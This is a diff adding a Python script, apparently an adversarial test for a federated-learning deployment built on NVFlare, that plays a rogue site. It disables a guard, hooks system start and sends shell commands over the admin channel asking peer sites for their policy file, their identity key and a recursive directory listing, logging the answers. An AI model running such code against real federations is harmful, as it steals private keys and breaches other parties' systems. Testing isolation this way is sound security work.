@@ -1,0 +1,72 @@
+"""`python evil_site.py HOME OUT TARGET...`: a kit's process in the hands of somebody who asks others for too much.
+
+What he is answered goes to OUT, one JSON a line.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import runpy
+import sys
+import threading
+import time
+from pathlib import Path
+from typing import Any
+
+from nvflare.apis.event_type import EventType
+
+from pbmvfl.deploy.home import Home
+from pbmvfl.deploy.nvflare import keeper, readiness
+
+HOME, OUT, TARGETS = Home.at(sys.argv[1]), Path(sys.argv[2]), sys.argv[3:]
+QUESTIONS = ("cat ../policy.toml", "cat ../identity.key", "ls -R ..")
+
+
+def attack(cell: Any) -> None:
+    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
+    from nvflare.fuel.f3.cellnet.utils import new_cell_message
+    from nvflare.private.admin_defs import Message
+    from nvflare.private.defs import SysCommandTopic
+    from nvflare.private.fed.client.shell_cmd import ShellCommandProcessor
+
+    with OUT.open("w") as out:
+
+        def note(**said: Any) -> None:
+            out.write(json.dumps(said) + "\n")
+            out.flush()
+
+        # That NVFlare's own processor would have told: here it is asked at home.
+        own = ShellCommandProcessor().process(Message(SysCommandTopic.SHELL, "cat ../policy.toml"), None)
+        note(target="", topic="control", code="", answer=str(own.body))
+        for target in TARGETS:
+            for asked in QUESTIONS:
+                request = new_cell_message({}, Message(topic=SysCommandTopic.SHELL, body=asked))
+                reply = cell.send_request(
+                    target=target, channel="admin", topic=SysCommandTopic.SHELL, request=request, timeout=15.0
+                )
+                answer = getattr(reply.payload, "body", reply.payload)
+                code = str(reply.get_header(MessageHeaderKey.RETURN_CODE))
+                note(target=target, topic=asked, code=code, answer=str(answer))
+        note(target="", topic="end", code="", answer="")
+
+
+def handle(_: Any, event_type: str, fl_ctx: Any) -> None:
+    if event_type == EventType.SYSTEM_START:
+        engine = fl_ctx.get_engine()
+        cell = getattr(engine, "cell", None) or engine.client.cell
+
+        def later() -> None:
+            time.sleep(1)  # until the registration that this event tells of is complete
+            attack(cell)
+
+        threading.Thread(target=later, daemon=True).start()
+
+
+readiness.Readiness.handle_event = handle  # type: ignore[method-assign]
+readiness.guard.install = lambda parties: None  # type: ignore[assignment]  # noqa: ARG005
+command = keeper.command(HOME)
+at = command.index("-m")
+sys.argv = command[at + 1 :]
+os.chdir(HOME.kit)
+runpy.run_module(command[at + 1], run_name="__main__", alter_sys=True)
